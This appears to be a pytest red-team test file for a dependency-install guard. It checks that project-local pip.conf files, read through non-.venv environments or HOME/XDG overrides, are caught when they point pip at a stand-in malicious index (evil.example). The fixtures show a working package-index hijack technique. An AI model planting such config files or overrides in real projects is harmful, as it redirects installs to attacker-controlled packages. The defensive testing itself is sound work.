"""Red team 47c R47c-1 / R47c-2 (HIGH for the static side, false clean): the pip.conf files a
project's own install line makes pip read, which the kernel guard reads and warden-scan does
not.

R47c-1: a pip started from a virtual environment the project carries under any name but
``.venv`` (``!venv/bin/pip install black``, ``!env/bin/python -m pip install black``) reads
that environment's site config (``venv/pip.conf``: pip's ``site`` variant is
``sys.prefix/pip.conf``). The kernel reads it (``sources._pip_prefixes``: the program's
prefix); warden-scan reads only ``.venv/pip.conf`` and ``$VIRTUAL_ENV/pip.conf``.

R47c-2: a line that sets ``HOME``, ``XDG_CONFIG_HOME`` or ``XDG_CONFIG_DIRS`` to a project
folder (``!HOME=. pip install black``) makes pip read ``./.pip/pip.conf`` or
``./.config/pip/pip.conf``: project files, not the scanning user's. The kernel reads them
(``sources.pip_config_files`` expands ``~`` with the line's HOME); warden-scan does not.

Here: the control shows the real pip 23.2 reading each file (``pip config list``) and the
kernel guard's decision refusing each line (these pass today); the static half is
src/deps/redteam47c-pipconf.spec.ts (fails today).
"""

import os
import subprocess
import sys

import pytest
from test_install_vectors import outcome

EVIL = "[global]\nindex-url = https://evil.example/simple\n"

CASES = [
    ("venv/bin/pip install black", {"venv/pip.conf": EVIL}),
    ("env/bin/python -m pip install black", {"env/pip.conf": EVIL}),
    ("HOME=. pip install black", {".pip/pip.conf": EVIL}),
    ("HOME=. pip install black", {".config/pip/pip.conf": EVIL}),
    ("XDG_CONFIG_HOME=cfg pip install black", {"cfg/pip/pip.conf": EVIL}),
    ("XDG_CONFIG_DIRS=cfg pip install black", {"cfg/pip/pip.conf": EVIL}),
]


@pytest.mark.parametrize("command,files", CASES)
def test_kernel_refuses_the_index_the_project_pip_conf_names(command, files, tmp_path):
    vector = {
        "policy": {},
        # pip reads its config files (the harness's default is PIP_CONFIG_FILE=/dev/null)
        "env": {"PIP_CONFIG_FILE": ""},
        "files": files,
        "command": command,
    }
    found = outcome(vector, tmp_path)
    assert "install-index-not-allowed" in found["rules"] and not found["runs"]


@pytest.mark.parametrize("assign,files", [(c.split(" pip")[0], f) for c, f in CASES[2:]])
def test_control_real_pip_reads_the_file(assign, files, tmp_path):
    """The real pip, started with the line's assignment, takes the project file's index."""
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "XDG_"))}
    env["HOME"] = str(tmp_path / "nohome")
    key, value = assign.split("=", 1)
    env[key] = value
    out = subprocess.run(
        [sys.executable, "-m", "pip", "config", "list"],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    ).stdout
    assert "global.index-url='https://evil.example/simple'" in out
